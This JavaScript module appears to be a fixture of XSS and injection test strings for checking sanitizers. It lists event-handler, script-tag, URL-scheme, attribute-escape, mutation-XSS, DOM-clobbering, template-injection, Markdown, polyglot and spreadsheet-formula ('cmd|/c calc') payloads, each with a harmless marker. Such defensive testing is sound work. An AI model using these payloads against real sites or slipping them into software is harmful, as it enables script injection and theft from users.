/**
 * Texts that run something, or ask for something, where a program takes them for markup, a style, an address, a template
 * or a key. Each of the published classes is here with each of its forms: the event handlers of the HTML standard,
 * the addresses that are scripts and their disguises, ways out of an attribute, an element and a comment, markup that
 * changes when it is read twice, names that shadow those of a page, and the link forms of Markdown.
 *
 * What runs sets `window.ran`; what asks, asks for `planted`.
 */

const RUN = 'window.ran=1';
const ASK = '/planted';

/** Elements that call a handler by themselves. */
const HANDLERS = [
  `<img src=x onerror=${RUN}>`,
  `<img src=x:x onerror="${RUN}">`,
  `<IMG SRC=x OnErRoR=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img\tsrc=x\tonerror=${RUN}>`,
  `<img src=x onerror=${RUN}//`,
  `<img src=x onerror\x0c=${RUN}>`,
  `<image src=x onerror=${RUN}>`,
  `<img srcset=x onerror=${RUN}>`,
  `<picture><source srcset=x><img onerror=${RUN}></picture>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><g onload=${RUN}></g></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set onbegin=${RUN} attributename=x>`,
  `<svg><image href=x onerror=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:,${RUN}"></script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=9>go</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>${RUN}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><body onload=${RUN}></foreignObject></svg>`,
  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<math href="javascript:${RUN}">go</math>`,
  `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${RUN}">go</maction></math>`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<body onhashchange=${RUN}><a href=#x>`,
  `<frameset onload=${RUN}>`,
  `<iframe onload=${RUN}></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe src="data:text/html,<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data="data:text/html,<script>parent.${RUN}</script>"></object>`,
  `<object onerror=${RUN} data=x></object>`,
  `<embed src="javascript:${RUN}">`,
  `<embed src="data:text/html,<script>parent.${RUN}</script>">`,
  `<applet code="javascript:${RUN}">`,
  `<video onerror=${RUN}><source></video>`,
  `<video src=x onerror=${RUN}></video>`,
  `<video poster=x onloadstart=${RUN} src=x></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<audio oncanplay=${RUN}><source src="data:audio/wav;base64,UklGRigAAABXQVZF"></audio>`,
  `<track default src=x onerror=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<dialog open onclose=${RUN}></dialog>`,
  `<input autofocus onfocus=${RUN}>`,
  `<input type=image src=x onerror=${RUN}>`,
  `<input type=hidden oncontentvisibilityautostatechange=${RUN} style=content-visibility:auto>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<button autofocus onfocus=${RUN}>go</button>`,
  `<button popovertarget=p>go</button><p popover id=p onbeforetoggle=${RUN}>`,
  `<a autofocus tabindex=1 onfocus=${RUN}>go</a>`,
  `<div tabindex=1 autofocus onfocusin=${RUN}>`,
  `<marquee onstart=${RUN}>go</marquee>`,
  `<marquee loop=1 width=0 onfinish=${RUN}>go</marquee>`,
  `<style onload=${RUN}></style>`,
  `<link rel=stylesheet href=x onerror=${RUN}>`,
  `<link rel=import href="data:text/html,<script>${RUN}</script>">`,
  `<script src=x onerror=${RUN}></script>`,
  `<keygen autofocus onfocus=${RUN}>`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<meter onmouseover=${RUN}>go</meter>`,
  `<p onpointerover=${RUN}>go</p>`,
  `<p style="animation:spin 1s" onanimationstart=${RUN}>go</p>`,
  `<p style="transition:all 1s" ontransitionend=${RUN}>go</p>`,
  `<x onclick=${RUN}>go</x>`,
  `<x contenteditable onblur=${RUN}>go</x>`,
  `<x oncopy=${RUN}>go</x>`,
  `<x onwheel=${RUN}>go</x>`,
  `<x id=x tabindex=1 onfocus=${RUN}></x>`,
  `<xss-element onconnected=${RUN}>`,
];

/** Scripts as such, in the forms that a filter may miss. */
const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script >${RUN}</script >`,
  `<script\n>${RUN}</script\n>`,
  `<script/x>${RUN}</script>`,
  `<script type=module>${RUN}</script>`,
  `<script type="text/javascript">${RUN}</script>`,
  `<script async src="data:text/javascript,${RUN}"></script>`,
  `<script src=${ASK}></script>`,
  `<script>//\u2028${RUN}</script>`,
  `<script><!--\n${RUN}//--></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `<script>${RUN}`,
  `<script\x00>${RUN}</script>`,
  `<sc\x00ript>${RUN}</script>`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `&#x3c;script&#x3e;${RUN}&#x3c;/script&#x3e;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `\u00bcscript\u00be${RUN}\u00bc/script\u00be`,
  `<template><script>${RUN}</script></template>`,
  `<xml><script>${RUN}</script></xml>`,
  `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`,
  `<!DOCTYPE x [<!ENTITY y "<script>${RUN}</script>">]>&y;`,
];

/** Ways out of where a text stands. */
const ESCAPES = [
  '"', "'", '`', '">', "'>", '`>', '/>', '-->', '--!>', ']]>', '*/', '})', '");', "');", '\\");', '</p>', '</bdi>', '</a>', '</title>', '</textarea>',
  '</style>', '</script>', '</noscript>', '</xmp>', '</iframe>', '</noembed>', '</template>', '</svg>', '</math>', '</select>', '</table>', '</pre>', '</code>',
].map((way) => `${way}<img src=x onerror=${RUN}>`);

const ATTRIBUTES = [
  `" onmouseover="${RUN}`, `' onmouseover='${RUN}`, `\` onmouseover=\`${RUN}`, `x onmouseover=${RUN} x`, `" autofocus onfocus="${RUN}" x="`, `' autofocus onfocus='${RUN}' x='`,
  `" style="background:url(${ASK})`, `" href="javascript:${RUN}`, `"><base href="${ASK}/">`, `" formaction="javascript:${RUN}`, `" srcdoc="<script>${RUN}</script>`, `" is="${RUN}`,
];

/** Addresses that are scripts. */
const ADDRESSES = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, ` javascript:${RUN}`, `\x01javascript:${RUN}`, `java\tscript:${RUN}`, `java\nscript:${RUN}`, `java\rscript:${RUN}`, `javascript\t:${RUN}`,
  `javascript&colon;${RUN}`, `javascript&#58;${RUN}`, `javascript&#x3a;${RUN}`, `&#106;avascript:${RUN}`, `&#x6a;avascript:${RUN}`, `java&Tab;script:${RUN}`, `java&NewLine;script:${RUN}`,
  `javascript://example.org/%0a${RUN}`, `javascript://www.example.org/path?%0d${RUN}`, `javascript:/*http://example.org/*/${RUN}`, `http://javascript:${RUN}@example.org:99999/`,
  `vbscript:${RUN}`, `livescript:${RUN}`, `data:text/html,<script>${RUN}</script>`, `data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg onload=${RUN}>`, `data:application/javascript,${RUN}`, `blob:javascript:${RUN}`, `view-source:javascript:${RUN}`, `feed:javascript:${RUN}`, `jar:javascript:${RUN}!/`,
  `filesystem:http://example.org/temporary/x.html`, `file:///etc/passwd`, `intent://example.org#Intent;scheme=javascript;end`, `ms-settings:`, `about:blank#${RUN}`,
  `https://example.org/"onmouseover="${RUN}`, `https://example.org/'onmouseover='${RUN}`, `https://example.org/<img src=x onerror=${RUN}>`, `https://example.org/?q=<script>${RUN}</script>`,
  `https://example.org/#"><img src=x onerror=${RUN}>`, `//example.org/<script>${RUN}</script>`, `www.example.org/"><svg onload=${RUN}>`, `https://example.org\\@example.net/`,
  `https://[::1]:1/"onclick=${RUN}`, `https://example.org:javascript:${RUN}/`,
];

/** What only asks for something. */
const REQUESTS = [
  `<img src=${ASK}>`, `<link rel=stylesheet href=${ASK}>`, `<link rel=prefetch href=${ASK}>`, `<link rel=preload as=image href=${ASK}>`, `<link rel=dns-prefetch href=//planted.example>`,
  `<meta http-equiv=refresh content="0;url=${ASK}">`, `<meta http-equiv="refresh" content="0; url=javascript:${RUN}">`, `<base href="${ASK}/">`, `<iframe src=${ASK}></iframe>`, `<object data=${ASK}></object>`,
  `<embed src=${ASK}>`, `<video poster=${ASK}></video>`, `<audio src=${ASK} autoplay></audio>`, `<input type=image src=${ASK}>`, `<body background=${ASK}>`, `<table background=${ASK}><td>x`,
  `<style>@import "${ASK}";</style>`, `<style>*{background:url(${ASK})}</style>`, `<p style="background:url(${ASK})">go</p>`, `<p style="list-style-image:url(${ASK})">go</p>`,
  `<p style="width:expression(${RUN})">go</p>`, `<p style="-moz-binding:url(${ASK})">go</p>`, `<p style="behavior:url(${ASK})">go</p>`, `<svg><image href=${ASK}></svg>`, `<svg><use href="${ASK}#x"></svg>`,
  `<svg><feImage href=${ASK}></svg>`, `<form action=${ASK}><button autofocus>go</button></form>`, `<form id=f></form><button form=f formaction="javascript:${RUN}">go</button>`, `<a href=x ping=${ASK}>go</a>`,
  `<portal src=${ASK}></portal>`, `<img srcset="${ASK} 1x">`, `<source src=${ASK}>`, `<script type=speculationrules>{"prefetch":[{"urls":["${ASK}"]}]}</script>`,
];

/** Markup that is another one when it is read a second time, names that shadow a page's own, templates, and Markdown. */
const OTHERS = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<title><p title="</title><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!-- --!><img src=x onerror=${RUN}>`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?php ><img src=x onerror=${RUN}>?>`,
  `<a id=undertext href="javascript:${RUN}">go</a><a id=undertext name=program>`,
  '<form name=body><input name=firstChild></form>',
  '<img name=querySelector><img name=getElementById>',
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'document.cookie',
  `{{constructor.constructor('${RUN}')()}}`, `\${${RUN}}`, `#{${RUN}}`, `<%= ${RUN} %>`, `{%${RUN}%}`, `[[${RUN}]]`, `{{${RUN}}}`, `{ { ${RUN} } }`,
  `[go](javascript:${RUN})`, `[go](JaVaScRiPt:${RUN})`, `[go]( javascript:${RUN} )`, `[go](<javascript:${RUN}>)`, `![go](javascript:${RUN})`, `![go](x"onerror="${RUN})`, `[go][x]\n[x]: javascript:${RUN}`,
  `<javascript:${RUN}>`, `[go](data:text/html,<script>${RUN}</script>)`, `[go](&#106;avascript:${RUN})`, `[go](https://example.org "x" onmouseover="${RUN}")`, `\`\`\`html\n<script>${RUN}</script>`,
  `> <img src=x onerror=${RUN}>`, `# <img src=x onerror=${RUN}>`, `| <img src=x onerror=${RUN}> |`, `<details><summary><img src=x onerror=${RUN}>`, `- [ ] <img src=x onerror=${RUN}>`,
  `\u202e<img src=x onerror=${RUN}>`, `\ufeff<img src=x onerror=${RUN}>`, `\x00<img src=x onerror=${RUN}>`, `<\u200bimg src=x onerror=${RUN}>`, `a\u0338<img src=x onerror=${RUN}>`,
  `\ud83d<img src=x onerror=${RUN}>`, '-'.repeat(300) + `<img src=x onerror=${RUN}>`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */onerror=${RUN} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${RUN}//>\\x3e`,
  `'">><marquee><img src=x onerror=${RUN}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=${RUN}>`,
  `=cmd|'/c calc'!A0`, `@SUM(1+1)*cmd|'/c calc'!A0`,
];

export const PAYLOADS = [
  ...HANDLERS, ...SCRIPTS, ...ESCAPES, ...ATTRIBUTES, ...ADDRESSES, ...REQUESTS, ...OTHERS,
];
